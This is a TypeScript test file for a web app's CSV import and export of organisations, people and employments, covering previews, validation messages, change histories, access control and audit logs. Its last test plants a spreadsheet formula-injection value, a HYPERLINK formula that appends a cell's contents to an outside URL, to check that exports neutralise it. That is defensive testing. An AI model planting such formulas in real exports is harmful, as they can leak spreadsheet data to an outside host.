import assert from 'node:assert/strict'
import { test } from 'node:test'
import { inWorld } from '#world/world.ts'
import { addLantern, recordBen } from '../testing/keeping.ts'
import { bring, countsOn, goOn, send, take } from '../testing/sending.ts'

const organisations = `code;name;province;starts_on;ends_on
K-1;Kettle Place;Colombie-Britannique;2024-01-01;2024-12-31
K-1;Kettle Place;CA-BC;2025-01-01;
;Maison Roselin;Québec;2025-06-01;2026-05-31
`
const people = 'email,name,language\nada@example.org,Ada Moor,fr\nBEN@example.org,Somebody Else,\n'
const employments = `email,organisation,other_organisation,role,caseload,streams,starts_on,ends_on
ada@example.org,K-1,,Advocate,oui,OUT,2025-01-01,
ben@example.org,,Elsewhere,Cook,,-,2025-01-01,2025-12-31
`

test('a file is looked at before anything of it is written, and then written whole', () =>
  inWorld(async (world) => {
    const { ask, db } = world
    const path = await send(world, 'organisations', organisations)
    const preview = await ask('dee', 'GET', path)
    assert.match(preview.body, /Import 3 lines/)
    assert.match(preview.body, /Line 3[^]*Kettle Place[^]*2025-01-01/)
    assert.ok(preview.statements <= 6, String(preview.statements))
    assert.equal((await db.selectFrom('member_organisation').select('id').execute()).length, 0)

    assert.equal((await ask('dee', 'POST', `${path}/writing`)).location, path)
    assert.match((await ask('dee', 'GET', path)).body, /data-from[^]*being imported/)
    await goOn(world, path)
    assert.match((await ask('dee', 'GET', path)).body, /Each change stands in the history/)
    const list = await ask('dee', 'GET', `/umbrellas/${world.communities.harbour}/organisations`)
    assert.match(list.body, /2 organisations, 2 of them members now, in 2 provinces/)
    const { id } = await db
      .selectFrom('member_organisation')
      .select('id')
      .where('code', '=', 'K-1')
      .executeTakeFirstOrThrow()
    const page = await ask('dee', 'GET', `/umbrellas/${world.communities.harbour}/organisations/${id}`)
    assert.match(page.body, /A member since <time[^>]*>1 January 2024[^]*Dee Koss added a period of membership/)
    assert.match(
      (await ask('dee', 'GET', `/umbrellas/${world.communities.harbour}/audit`)).body,
      /Dee Koss imported a file of organisations/,
    )

    assert.deepEqual(await countsOn(world, await send(world, 'organisations', organisations)), { unchanged: 3 })
  }))

test('a changed file changes what it names and nothing else, with a history of what it was', () =>
  inWorld(async (world) => {
    await bring(world, 'organisations', organisations)
    await addLantern(world)
    const changed = organisations
      .replace('2025-01-01;\n', '2025-01-01;2027-01-01\n')
      .replaceAll('Kettle Place', 'Kettle Society')
    const path = await send(world, 'organisations', changed)
    assert.deepEqual(await countsOn(world, path), { changed: 2, unchanged: 1 })
    assert.match((await world.ask('dee', 'GET', path)).body, /<s>Kettle Place<\/s> → Kettle Society/)
    await bring(world, 'organisations', changed)
    const names = await world.db.selectFrom('member_organisation').select('name').orderBy('name').execute()
    assert.deepEqual(
      names.map(({ name }) => name),
      ['Kettle Society', 'Lantern House', 'Maison Roselin'],
    )
    const kinds = await world.db.selectFrom('fact_change').select('kind').where('kind', 'like', '%.changed').execute()
    assert.deepEqual(new Set(kinds.map(({ kind }) => kind)), new Set(['organisation.changed', 'period.changed']))
  }))

test('each wrong line is named with its number, its column and what to do, and nothing is written', () =>
  inWorld(async (world) => {
    const { ask, db } = world
    await addLantern(world)
    const file = `name,code,jurisdiction,starts_on,ends_on
,X-1,CA-BC,,
Kettle,K 1,CA-BC,,
Kettle,,Mars,,
Kettle,,CA-BC,2025-02-30,
Kettle,,CA-BC,2025-02-02,2025-02-01
Kettle,,CA-BC,,2025-02-01
Lantern House,L-1,CA-BC,2025-06-01,
Right here,,CA-BC,,
Twice,,CA-ON,2025-01-01,
Twice,,CA-ON,2025-01-01,
One,O-1,CA-ON,,
Two,O-1,CA-ON,,
Over,,CA-ON,2025-01-01,2025-06-01
Over,,CA-ON,2025-06-01,
Right,,CA-ON,2025-01-01,
`
    const path = await send(world, 'organisations', file)
    const { body } = await ask('dee', 'GET', path)
    const sentences: [number, RegExp][] = [
      [2, /Write a name/],
      [3, /without spaces/],
      [4, /by its name or a code such as CA-BC/],
      [5, /Write the day as 2026-03-31/],
      [6, /before the first one/],
      [7, /Say the first day/],
      [8, /overlap with others/],
      [10, /says the same/],
      [11, /says the same/],
      [12, /says something else of this organisation/],
      [13, /says something else of this organisation/],
      [15, /overlap with others/],
    ]
    const items = body.split('<b>Line ').slice(1)
    for (const [line, sentence] of sentences) {
      const item = items.find((one) => one.startsWith(`${line}<`))
      assert.match(item ?? '', sentence, `line ${line}`)
    }
    assert.match(body, /12 lines have to be mended\. Nothing was imported/)
    assert.equal((await ask('dee', 'POST', `${path}/writing`)).status, 409)
    const coded = await send(world, 'organisations', 'name,code,jurisdiction\nLantern House,L-9,CA-BC\n')
    assert.match((await ask('dee', 'GET', coded)).body, /on record under another code/)
    assert.equal((await db.selectFrom('member_organisation').select('id').execute()).length, 1)
  }))

test('people and employments come in by file, and an export of them changes nothing when it comes in again', () =>
  inWorld(async (world) => {
    const { ask, db, communities } = world
    await ask('dee', 'POST', `/umbrellas/${communities.harbour}/streams`, { code: 'OUT', nameEn: 'Outreach' })
    await bring(world, 'organisations', organisations)
    const early = await send(world, 'employments', employments)
    assert.match((await ask('dee', 'GET', early)).body, /Nobody on record has this address\. Import the people first/)
    await bring(world, 'people', people)
    const ben = await db
      .selectFrom('person')
      .select('display_name')
      .where('id', '=', world.people.ben)
      .executeTakeFirstOrThrow()
    assert.equal(ben.display_name, 'Ben Ito')
    const claim = await db.selectFrom('invitation').select(['email', 'token_hash']).executeTakeFirstOrThrow()
    assert.equal(claim.email, 'ada@example.org')
    assert.match(claim.token_hash, /^unsent /)
    await bring(world, 'employments', employments)
    assert.match((await ask('ben', 'GET', '/me/employments')).body, /Cook[^]*Elsewhere/)

    for (const kind of ['organisations', 'people', 'employments'] as const) {
      const file = await take(world, kind)
      const counts = await countsOn(world, await send(world, kind, file))
      assert.deepEqual(Object.keys(counts), ['unchanged'], `${kind}: ${JSON.stringify(counts)} ${file}`)
    }
    const later = employments.replace('oui,OUT', 'non,').replace('2025-12-31', '')
    const path = await bring(world, 'employments', later)
    assert.deepEqual(await countsOn(world, path), { changed: 2 })
    assert.deepEqual(await countsOn(world, await send(world, 'employments', later)), { unchanged: 2 })
  }))

test('wrong employments are named as well: who, where, in what, and what contradicts', () =>
  inWorld(async (world) => {
    const { ask, communities, db } = world
    await addLantern(world)
    await recordBen(world)
    await ask('dee', 'POST', `/umbrellas/${communities.harbour}/streams`, { code: 'OLD', nameEn: 'Old' })
    await db.updateTable('programme_stream').set({ retired_at: world.clock.now() }).execute()
    const path = await send(
      world,
      'employments',
      `email,organisation,other_organisation,role,caseload,streams,starts_on,ends_on
ben@example.org,Lantern House,Elsewhere,Cook,,,2025-01-01,
ben@example.org,Kettle,,Cook,,,2025-01-01,
ben@example.org,L-1,,Cook,perhaps,,2025-01-01,
ben@example.org,L-1,,Cook,,NEW,2025-01-01,
ben@example.org,L-1,,Cook,,OLD,2025-01-01,
nobody@example.org,L-1,,Cook,,,2025-01-01,
ben@example.org,L-1,,Cook,,,,
ben@example.org,L-1,,Night,,,2025-01-01,
ben@example.org,L-1,,Night,,,2025-06-01,
`,
    )
    const { body } = await ask('dee', 'GET', path)
    const sentences = [
      /Name one organisation/,
      /No member organisation has this name or code/,
      /Write yes or no/,
      /not on record\. Add it first/,
      /was retired/,
      /Import the people first/,
      /Say the first day/,
      /overlap with others/,
    ]
    for (const sentence of sentences) assert.match(body, sentence)
  }))

test('what changed since somebody looked is looked at again before it is written', () =>
  inWorld(async (world) => {
    const path = await send(world, 'organisations', 'name,jurisdiction,starts_on\nLantern House,CA-BC,2025-06-01\n')
    assert.deepEqual(await countsOn(world, path), { new: 1 })
    await addLantern(world)
    await world.ask('dee', 'POST', `${path}/writing`)
    await goOn(world, path)
    assert.match((await world.ask('dee', 'GET', path)).body, /1 line has to be mended\. Nothing was imported/)
    assert.equal((await world.db.selectFrom('organisation_membership').select('id').execute()).length, 1)
  }))

test('files are sent, seen, written and taken out by administrators alone', () =>
  inWorld(async (world) => {
    const { ask, communities } = world
    const files = `/umbrellas/${communities.harbour}/files`
    const path = await send(world, 'organisations', organisations)
    for (const who of ['ana', 'ben', 'ivy', 'visitor'] as const) {
      for (const page of [files, path]) assert.notEqual((await ask(who, 'GET', page)).status, 200, `${who} ${page}`)
      for (const act of [`${path}/writing`, `${path}/discarding`, `/umbrellas/${communities.harbour}/exports`]) {
        const answer = await ask(who, 'POST', act, { kind: 'people' })
        assert.ok(answer.status === 404 || answer.status === 401, `${who} ${act} ${answer.status}`)
      }
    }
    assert.equal((await ask('dee', 'POST', `${path}/discarding`)).location, files)
    assert.equal((await ask('dee', 'GET', path)).status, 404)
    assert.match(
      (await ask('dee', 'POST', files, { kind: 'people' }, { files: [] })).body,
      /Choose a file that is not empty/,
    )
    const odd = await send(world, 'people', 'what\nis this')
    assert.match((await ask('dee', 'GET', odd)).body, /does not name all columns that are needed/)
    const taken = await ask('dee', 'POST', `/umbrellas/${communities.harbour}/exports`, {
      kind: 'people',
      separator: ',',
    })
    assert.equal(taken.headers['content-disposition'], 'attachment; filename="people-2026-03-02.csv"')
    assert.match(
      (await ask('dee', 'GET', `/umbrellas/${communities.harbour}/audit`)).body,
      /Dee Koss exported a file of people/,
    )
  }))

test('what a spreadsheet would calculate is taken out as words, and comes in as it was', () =>
  inWorld(async (world) => {
    const name = '=HYPERLINK("https://example.org/?"&A1)'
    await world.ask('dee', 'POST', `/umbrellas/${world.communities.harbour}/organisations`, {
      name,
      jurisdiction: 'CA-BC',
    })
    const file = await take(world, 'organisations')
    assert.match(file, /;"'=HYPERLINK\(/)
    assert.deepEqual(await countsOn(world, await send(world, 'organisations', file)), { unchanged: 1 })
  }))
